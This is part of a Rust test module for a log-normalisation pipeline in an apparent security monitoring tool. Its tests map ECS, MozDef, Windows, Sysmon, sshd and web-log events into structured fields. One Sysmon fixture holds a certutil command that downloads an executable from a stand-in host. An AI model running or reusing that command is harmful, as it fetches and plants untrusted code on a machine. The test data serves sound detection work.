        derived.tags.push(tag.into_owned());
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn ctx() -> IngestContext {
        IngestContext {
            geo: None,
            source_id: Some(Uuid::nil()),
            source_kind: app::ingest::SourceKind::ApiKey,
            source_name: "test-shipper".into(),
            received_at: DateTime::parse_from_rfc3339("2026-11-29T12:00:00Z")
                .unwrap()
                .with_timezone(&Utc),
        }
    }

    /// Normalises `doc` from its text (the ingest path) and as a parsed value
    /// (syslog, fully-parsed documents), and checks that both agree.
    fn norm(doc: Value) -> Event {
        let parsed = normalize(doc.clone(), &ctx(), TimePolicy::default()).unwrap();
        let text = normalize_text(&doc.to_string(), &ctx(), TimePolicy::default()).unwrap();
        let comparable = |event: &Event| {
            let mut document = event.document();
            document["event"]["id"] = Value::Null;
            let mut event = event.clone();
            event.id = Uuid::nil();
            event.payload = document.to_string();
            event
        };
        assert_eq!(comparable(&parsed), comparable(&text));
        text
    }

    #[test]
    fn public_addresses_gain_their_place_and_the_shippers_own_wins() {
        let geo_ctx = IngestContext {
            geo: Some(crate::ingest::geoip::tests::installed()),
            ..ctx()
        };
        let norm_geo = |doc: Value| {
            normalize_text(&doc.to_string(), &geo_ctx, TimePolicy::default())
                .unwrap()
                .document()
        };
        // Parsed from an sshd line, then placed.
        let doc = norm_geo(json!({
            "message": "Failed password for root from 81.2.69.142 port 50022 ssh2",
            "process": {"name": "sshd"},
            "destination": {"ip": "2a00:1450:4001:82b::200e"}
        }));
        assert_eq!(doc["source"]["ip"], "81.2.69.142");
        assert_eq!(doc["source"]["geo"]["city_name"], "London");
        assert_eq!(doc["source"]["geo"]["country_iso_code"], "GB");
        assert!(doc["source"]["geo"]["location"]["lat"].is_f64());
        assert_eq!(doc["destination"]["geo"]["country_iso_code"], "DE");
        // What the shipper sent stays; private addresses get nothing.
        let doc = norm_geo(json!({
            "source": {"ip": "81.2.69.142", "geo": {"city_name": "Shipper's own"}},
            "destination": {"ip": "10.1.2.3"}
        }));
        assert_eq!(doc["source"]["geo"], json!({"city_name": "Shipper's own"}));
        assert!(doc["destination"].get("geo").is_none());
        // Without databases, no enrichment.
        let doc = norm(json!({"source": {"ip": "81.2.69.142"}})).document();
        assert!(doc["source"].get("geo").is_none());
    }

    #[test]
    fn non_objects_are_rejected_with_their_kind() {
        for (doc, kind) in [
            (json!([1]), "an array"),
            (json!("x"), "a string"),
            (json!(null), "null"),
        ] {
            let rejection = normalize(doc, &ctx(), TimePolicy::default()).unwrap_err();
            assert_eq!(rejection.code, "not_an_object");
            assert!(rejection.message.contains(kind), "{}", rejection.message);
        }
    }

    #[test]
    fn ecs_documents_pass_through_into_columns() {
        let event = norm(json!({
            "@timestamp": "2026-11-29T11:59:00Z",
            "event": {"category": ["authentication"], "action": "ssh_login", "outcome": "Failure"},
            "host": {"name": "bastion-1"},
            "source": {"ip": "203.0.113.7", "port": 50022},
            "user": {"name": "root"},
            "process": {"name": "sshd", "pid": 411},
            "message": "Failed password for root from 203.0.113.7 port 50022 ssh2",
            "tags": ["ssh", "prod"],
            "labels": {"env": "prod"}
        }));
        assert_eq!(event.ts.to_rfc3339(), "2026-11-29T11:59:00+00:00");
        assert_eq!(event.category.as_deref(), Some("authentication"));
        assert_eq!(event.action.as_deref(), Some("ssh_login"));
        assert_eq!(event.outcome.as_deref(), Some("failure"));
        assert_eq!(event.host_name.as_deref(), Some("bastion-1"));
        assert_eq!(event.source_ip, Some("203.0.113.7".parse().unwrap()));
        assert_eq!(event.user_name.as_deref(), Some("root"));
        assert_eq!(event.process_name.as_deref(), Some("sshd"));
        assert_eq!(event.tags, vec!["ssh", "prod"]);
        assert_eq!(event.document()["labels"]["env"], "prod");
        assert_eq!(event.document()["source"]["port"], 50022);
        assert_eq!(
            event.document()["event"]["ingested"],
            "2026-11-29T12:00:00.000000Z"
        );
        assert_eq!(event.document()["event"]["id"], event.id.to_string());
        assert_eq!(event.document()["vigil"]["source"]["name"], "test-shipper");
        assert!(event.document()["vigil"].get("flags").is_none());
    }

    #[test]
    fn mozdef_events_map_as_mozdef_did() {
        let event = norm(json!({
            "utctimestamp": "2026-11-29T11:00:00+00:00",
            "summary": "joe login failed",
            "category": "Authentication",
            "hostname": "ldap1.corp",
            "processname": "slapd",
            "processid": "1234",
            "severity": "INFO",
            "source": "ldap",
            "tags": ["ldap", "adminAccess", "failure"],
            "details": {"username": "joe", "success": false, "sourceipaddress": "10.1.2.3"}
        }));
        assert_eq!(event.ts.to_rfc3339(), "2026-11-29T11:00:00+00:00");
        assert_eq!(event.message.as_deref(), Some("joe login failed"));
        assert_eq!(event.category.as_deref(), Some("authentication"));
        assert_eq!(event.host_name.as_deref(), Some("ldap1.corp"));
        assert_eq!(event.process_name.as_deref(), Some("slapd"));
        assert_eq!(event.log_level.as_deref(), Some("info"));
        assert_eq!(event.user_name.as_deref(), Some("joe"));
        assert_eq!(event.outcome.as_deref(), Some("failure"));
        assert_eq!(event.source_ip, Some("10.1.2.3".parse().unwrap()));
        assert_eq!(event.document()["process"]["pid"], 1234);
        // MozDef's string `source` is kept, moved aside for ECS's `source` object.
        assert_eq!(event.document()["vigil"]["original"]["source"], "ldap");
        assert_eq!(
            event.document()["event"]["provider"],
            "ldap",
            "rules read it here"
        );
        assert_eq!(event.document()["source"]["ip"], "10.1.2.3");
        assert_eq!(event.document()["summary"], "joe login failed");
        assert_eq!(event.document()["details"]["username"], "joe");
        assert_eq!(
            event.document()["vigil"]["flags"],
            json!(["renamed_conflicting_fields"])
        );
    }

    #[test]
    fn mozdef_geolocations_become_ecs_geo() {
        let event = norm(json!({
            "summary": "alice logged in",
            "details": {
                "username": "alice",
                "sourceipaddress": "81.2.69.142",
                "sourceipgeolocation": {"city": "London", "country_code": "GB",
                                        "latitude": 51.5142, "longitude": "-0.0931", "time_zone": "Europe/London"}
            }
        }));
        assert_eq!(
            event.document()["source"]["geo"],
            json!({"city_name": "London", "country_iso_code": "GB", "timezone": "Europe/London",
                   "location": {"lat": 51.5142, "lon": -0.0931}})
        );
    }

    #[test]
    fn a_single_string_tag_becomes_a_list() {
        let event = norm(json!({"summary": "x", "tags": "test"}));
        assert_eq!(event.tags, vec!["test"]);
    }

    #[test]
    fn nested_windows_exports_are_flattened_to_sigma_names() {
        // The first SigmaHQ regression event (a real EVTX export) with an Image field.
        let doc = first_regression_event().expect("SigmaHQ regression data in ../shared/data");
        let event = norm(doc.clone());
        let payload = &event.document();
        assert!(
            payload.get("Event").is_none(),
            "the nested form is replaced by flat fields"
        );
        assert!(payload.get("EventID").is_some());
        assert!(payload.get("Channel").is_some());
        assert!(payload.get("Provider_Name").is_some());
        let system_time = doc["Event"]["System"]["TimeCreated"]["#attributes"]["SystemTime"]
            .as_str()
            .unwrap();
        assert_eq!(payload["TimeCreated_SystemTime"], system_time);
        assert_eq!(
            event.host_name.as_deref(),
            doc["Event"]["System"]["Computer"].as_str()
        );
        // The recorded time is older than 90 days, so it is kept but flagged.
        assert_eq!(payload["vigil"]["flags"], json!(["timestamp_out_of_range"]));
        assert_eq!(payload["vigil"]["original_timestamp"], system_time);
        for (name, value) in doc["Event"]["EventData"].as_object().unwrap() {
            assert_eq!(&payload[name], value, "EventData field {name}");
        }
    }

    #[test]
    fn windows_user_data_fields_are_flattened_by_name() {
        let doc = json!({"Event": {
            "System": {"EventID": 5858, "Channel": "Microsoft-Windows-WMI-Activity/Operational"},
            "UserData": {"Operation_ClientFailure": {
                "#attributes": {"xmlns": "http://manifests.microsoft.com/win/2006/windows/WMI"},
                "Operation": "ExecMethod cleareventlog",
                "ResultCode": "0x80041003"
            }}
        }});
        let event = normalize(doc, &ctx(), TimePolicy::default()).unwrap();
        let payload = event.document();
        assert_eq!(payload["Operation"], "ExecMethod cleareventlog");
        assert_eq!(payload["ResultCode"], "0x80041003");
        assert!(payload.get("xmlns").is_none() && payload.get("UserData").is_none());
    }

    fn first_regression_event() -> Option<Value> {
        let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("../../shared/data/sigma/regression_data");
        let mut stack = vec![root];
        while let Some(dir) = stack.pop() {
            let mut entries: Vec<_> = std::fs::read_dir(&dir)
                .ok()?
                .flatten()
                .map(|e| e.path())
                .collect();
            entries.sort();
            for path in entries {
                if path.is_dir() {
                    stack.push(path);
                } else if path.extension().is_some_and(|e| e == "json")
                    && let Ok(text) = std::fs::read_to_string(&path)
                    && let Ok(value) = serde_json::from_str::<Value>(&text)
                    && value["Event"]["EventData"]["Image"].is_string()
                {
                    return Some(value);
                }
            }
        }
        None
    }

    #[test]
    fn flat_windows_events_get_ecs_fields() {
        let event = norm(json!({
            "EventID": 4625, "Channel": "Security", "Hostname": "WORKSTATION5",
            "TargetUserName": "pgustavo", "IpAddress": "172.18.39.5",
            "TimeCreated": "2026-11-29 11:58:00.123", "Message": "An account failed to log on."
        }));
        assert_eq!(event.category.as_deref(), Some("authentication"));
        assert_eq!(event.outcome.as_deref(), Some("failure"));
        assert_eq!(event.host_name.as_deref(), Some("WORKSTATION5"));
        assert_eq!(event.user_name.as_deref(), Some("pgustavo"));
        assert_eq!(event.source_ip, Some("172.18.39.5".parse().unwrap()));
        assert_eq!(event.document()["event"]["code"], "4625");
        assert_eq!(event.ts.to_rfc3339(), "2026-11-29T11:58:00.123+00:00");

        let sysmon = norm(json!({
            "EventID": "1", "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Image": "C:\\Windows\\System32\\certutil.exe", "CommandLine": "certutil -urlcache -f http://x/a.exe"
        }));
        assert_eq!(sysmon.process_name.as_deref(), Some("certutil.exe"));
        assert_eq!(sysmon.action.as_deref(), Some("process-created"));
        assert_eq!(
            sysmon.document()["process"]["command_line"],
            "certutil -urlcache -f http://x/a.exe"
        );
        assert_eq!(
            sysmon.document()["Image"],
            "C:\\Windows\\System32\\certutil.exe"
        );
    }

    #[test]
    fn events_without_a_usable_time_are_kept_at_receive_time_and_flagged() {
        let missing = norm(json!({"message": "no time here"}));
        assert_eq!(missing.ts, ctx().received_at);
        assert_eq!(
            missing.document()["vigil"]["flags"],
            json!(["timestamp_missing"])
        );

        let future =
            norm(json!({"@timestamp": "2027-06-01T00:00:00Z", "message": "from the future"}));
        assert_eq!(future.ts, ctx().received_at);
        assert_eq!(
            future.document()["vigil"]["original_timestamp"],
            "2027-06-01T00:00:00Z"
        );
        assert_eq!(
            future.document()["vigil"]["flags"],
            json!(["timestamp_out_of_range"])
        );

        // Two days old: kept at its time, flagged; an hour old: not flagged.
        let late = norm(json!({"@timestamp": "2026-11-27T11:00:00Z", "message": "late"}));
        assert_eq!(late.ts.to_rfc3339(), "2026-11-27T11:00:00+00:00");
        assert_eq!(late.document()["vigil"]["flags"], json!(["arrived_late"]));
        let recent = norm(json!({"@timestamp": "2026-11-29T11:00:00Z", "message": "recent"}));
        assert!(recent.document()["vigil"].get("flags").is_none());

        let garbage = norm(json!({"timestamp": "last tuesday", "message": "x"}));
        assert_eq!(
            garbage.document()["vigil"]["flags"],
            json!(["timestamp_unparsed"])
        );
        assert_eq!(garbage.document()["timestamp"], "last tuesday");
    }

    #[test]
    fn shipper_scalars_in_ecs_places_move_aside_instead_of_vanishing() {
        let event = norm(
            json!({"host": "web01", "program": "nginx", "message": "GET /", "@timestamp": "2026-11-29T11:00:00Z"}),
        );
        assert_eq!(event.host_name.as_deref(), Some("web01"));
        assert_eq!(event.document()["host"]["name"], "web01");
        assert_eq!(event.document()["vigil"]["original"]["host"], "web01");
        assert_eq!(event.process_name.as_deref(), Some("nginx"));
    }

    #[test]
    fn bad_addresses_do_not_become_columns() {
        let event =
            norm(json!({"source": {"ip": "not-an-ip"}, "destination": {"ip": "10.0.0.1:443"}}));
        assert_eq!(event.source_ip, None);
        assert_eq!(event.destination_ip, Some("10.0.0.1".parse().unwrap()));
        assert_eq!(event.document()["source"]["ip"], "not-an-ip");
    }

    #[test]
    fn nul_characters_cannot_reach_postgres() {
        let event = norm(json!({"message": "a\u{0}b", "k\u{0}": ["x\u{0}"], "o": {"i": "\u{0}"}}));
        let text = event.payload.clone();
        assert!(
            !text.contains("\\u0000") && !text.contains('\u{0}'),
            "{text}"
        );
        assert_eq!(event.message.as_deref(), Some("a\u{FFFD}b"));
    }

    #[test]
    fn sshd_and_access_lines_gain_structure() {
        let ssh = norm(json!({
            "@timestamp": "2026-11-29T11:00:00Z", "host": "LabSZ", "program": "sshd",
            "message": "Failed password for invalid user webmaster from 173.234.31.186 port 38926 ssh2"
        }));
        assert_eq!(ssh.category.as_deref(), Some("authentication"));
        assert_eq!(ssh.outcome.as_deref(), Some("failure"));
        assert_eq!(ssh.user_name.as_deref(), Some("webmaster"));
        assert_eq!(ssh.source_ip, Some("173.234.31.186".parse().unwrap()));

        let web = norm(json!({
            "message": "10.1.2.3 - bob [29/Nov/2026:10:00:00 +0100] \"POST /login HTTP/1.1\" 401 512 \"-\" \"curl/8.5.0\""
        }));
        assert_eq!(web.ts.to_rfc3339(), "2026-11-29T09:00:00+00:00");
        assert_eq!(web.category.as_deref(), Some("web"));
        assert_eq!(web.outcome.as_deref(), Some("failure"));
        assert_eq!(web.user_name.as_deref(), Some("bob"));
        assert_eq!(web.document()["http"]["response"]["status_code"], 401);
        assert_eq!(web.document()["user_agent"]["original"], "curl/8.5.0");
    }

    #[test]
    fn wrong_types_for_known_fields_are_kept_not_fatal() {
        let doc = json!({
            "@timestamp": {"not": "a time"},
            "host": 42,
            "source": {"ip": 7},
            "user": ["alice", "bob"],
            "event": "a string where ECS has an object",
            "tags": {"a": 1},
            "message": 3.5
        });
        let event = norm(doc);
        assert_eq!(event.ts, ctx().received_at);
        assert_eq!(
            event.document()["vigil"]["flags"],
            json!(["timestamp_unparsed", "renamed_conflicting_fields"])
        );
        assert_eq!(
            event.document()["vigil"]["original"]["event"],
            "a string where ECS has an object"
        );
        assert_eq!(
            event.document()["host"],
            42,
            "a non-text host stays as sent"
        );
        assert_eq!(event.source_ip, None);
        assert_eq!(event.message.as_deref(), Some("3.5"));
        assert_eq!(event.document()["user"], json!(["alice", "bob"]));
    }

    #[test]
    fn times_are_written_as_chrono_writes_them() {
        let mut ts = DateTime::parse_from_rfc3339("0001-01-01T00:00:00Z")
            .unwrap()
            .with_timezone(&Utc);
        for step in 0..20_000i64 {
            let expected = ts.to_rfc3339_opts(SecondsFormat::Micros, true);
            assert_eq!(rfc3339_micros(ts), expected);
            ts += chrono::Duration::microseconds(step * 7_919_371_113 + 1);
        }
        let leap = chrono::NaiveDate::from_ymd_opt(2016, 12, 31)
            .unwrap()
            .and_hms_micro_opt(23, 59, 59, 1_500_000)
            .unwrap()
            .and_utc();
        assert_eq!(
            rfc3339_micros(leap),
            leap.to_rfc3339_opts(SecondsFormat::Micros, true)
        );
    }

    #[test]
    fn ids_are_unique_and_carry_the_event_time() {
        let a = norm(json!({"message": "a", "@timestamp": "2026-11-29T11:00:00.123Z"}));
        let b = norm(json!({"message": "b", "@timestamp": "2026-11-29T11:00:00.123Z"}));
        assert_ne!(a.id, b.id);
        assert_eq!(a.id.get_version_num(), 7);
        assert_eq!(a.id.get_variant(), uuid::Variant::RFC4122);
        assert_eq!(
            time_of_id(a.id).unwrap().to_rfc3339(),
            "2026-11-29T11:00:00.123+00:00"
        );
        let late = norm(json!({"message": "c", "@timestamp": "2026-11-20T00:00:00Z"}));
        assert_eq!(
            time_of_id(late.id).unwrap().to_rfc3339(),
            "2026-11-20T00:00:00+00:00"
        );
        let ts = ctx().received_at;
        let ids: Vec<Uuid> = (0..10_000).map(|_| event_id(ts)).collect();
        assert!(
            ids.windows(2).all(|w| w[0] < w[1]),
            "one thread, one millisecond: increasing"
        );
        let other = event_id(ts - chrono::Duration::milliseconds(1));
        assert!(other < ids[0], "an earlier event time sorts first");
    }
}
